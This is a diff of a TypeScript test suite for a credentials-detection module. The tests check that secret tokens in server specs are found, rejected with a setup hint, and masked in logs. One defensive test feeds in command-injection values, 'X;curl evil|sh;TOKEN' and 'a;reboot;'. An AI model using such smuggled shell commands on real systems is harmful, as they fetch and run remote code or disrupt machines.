@@ -3,7 +3,7 @@ import {
   findCredentials,
   HIDDEN,
   hideIn,
-  refuseCredentials,
+  rejectCredentials,
   withoutCredentials,
 } from '../../../control/backends/credentials.ts';
 import { UserError } from '../../../core/errors.ts';
@@ -11,7 +11,7 @@ import { UserError } from '../../../core/errors.ts';
 const A = 'a'.repeat(40);
 const pathsOf = (spec: Record<string, unknown>) => findCredentials(spec).map(({ path }) => path);
 
-describe('credentials in what somebody gives', () => {
+describe('credentials in a spec', () => {
   for (const [what, text] of Object.entries({
     'GitHub token': `ghp_${A}`,
     'fine-grained GitHub token': `github_pat_${A}`,
@@ -25,7 +25,7 @@ describe('credentials in what somebody gives', () => {
     'Atlassian token': `ATATT3x${A}`,
     'API key': `sk-proj-${A}`,
   })) {
-    it(`finds a ${what} wherever it stands`, () => {
+    it(`finds a ${what} anywhere`, () => {
       expect(pathsOf({ env: { LOG_LEVEL: text } })).to.deep.equal(['env.LOG_LEVEL']);
       expect(pathsOf({ command: ['server', text] })).to.deep.equal(['command[1]']);
       expect(pathsOf({ podTemplate: { spec: { containers: [{ env: [{ name: 'x', value: text }] }] } } })).to.deep.equal(
@@ -55,10 +55,10 @@ describe('credentials in what somebody gives', () => {
     expect(pathsOf(spec)).to.deep.equal(['podTemplate.spec.containers[0].env[0].value']);
   });
 
-  it('puts nothing into a line for a shell that was given by somebody', () => {
+  it('puts only plain names into a line for a shell', () => {
     const given = { env: { 'X;curl evil|sh;TOKEN': `ghp_${A}` } };
-    const refusal = () => refuseCredentials('a;reboot;', given, { kind: 'cluster', secretsLocation: 'mcp' });
-    expect(refusal)
+    const rejection = () => rejectCredentials('a;reboot;', given, { kind: 'cluster', secretsLocation: 'mcp' });
+    expect(rejection)
       .to.throw(UserError)
       .with.property('hint')
       .that.does.not.match(/curl|reboot/);
@@ -79,7 +79,7 @@ describe('credentials in what somebody gives', () => {
     });
   }
 
-  it('leaves alone what only looks a little like one', () => {
+  it('ignores what only resembles one', () => {
     const env = {
       ...{ MAX_TOKENS: '4096', TOKEN: '600', GITHUB_TOKEN_FILE: '/run/secrets/token', API_KEY: '/run/secrets/key' },
       ...{
@@ -100,30 +100,25 @@ describe('credentials in what somebody gives', () => {
     );
   });
 
-  it('are refused with the way to do it right, and without being repeated', () => {
+  it('are rejected with a hint, and never repeated', () => {
     const secret = `ghp_${A}`;
-    const refusal = (kind: 'folder' | 'cluster') => {
+    const rejection = (kind: 'folder' | 'cluster') => {
       try {
-        refuseCredentials('github', { env: { GITHUB_TOKEN: secret } }, { kind, secretsLocation: 'mcp' });
+        rejectCredentials('github', { env: { GITHUB_TOKEN: secret } }, { kind, secretsLocation: 'mcp' });
       } catch (error) {
         if (error instanceof UserError) return error;
       }
-      throw new Error('nothing was refused');
+      throw new Error('nothing was rejected');
     };
-    expect(refusal('cluster').code).to.equal('usage');
-    expect(refusal('cluster').hint).to.include(
-      'kubectl -n mcp create secret generic github-credentials --from-file=GITHUB_TOKEN=FILE',
-    );
-    expect(refusal('cluster').hint).to.include(
-      'secretEnv {"GITHUB_TOKEN": {"name": "github-credentials", "key": "GITHUB_TOKEN"}}',
-    );
-    expect(refusal('folder').hint).to.include('upstreamAuth {"type": "bearer", "file":').and.not.include('secretEnv');
+    expect(rejection('cluster').code).to.equal('usage');
+    expect(rejection('cluster').hint).to.include('kubectl -n mcp create secret').and.include('secretEnv');
+    expect(rejection('folder').hint).to.include('upstreamAuth').and.not.include('secretEnv');
     for (const kind of ['folder', 'cluster'] as const) {
-      expect(`${refusal(kind).message}${refusal(kind).hint}`).to.not.include(secret);
+      expect(`${rejection(kind).message}${rejection(kind).hint}`).to.not.include(secret);
     }
   });
 
-  it('are hidden where a backend or a log line is shown', () => {
+  it('are hidden in shown backends and log lines', () => {
     const spec = { name: 'x', env: { TOKEN: 'abcdefgh', LEVEL: 'info' }, command: ['run', `--key=ghp_${A}`, 'on'] };
     expect(withoutCredentials(spec)).to.deep.equal({
       name: 'x',
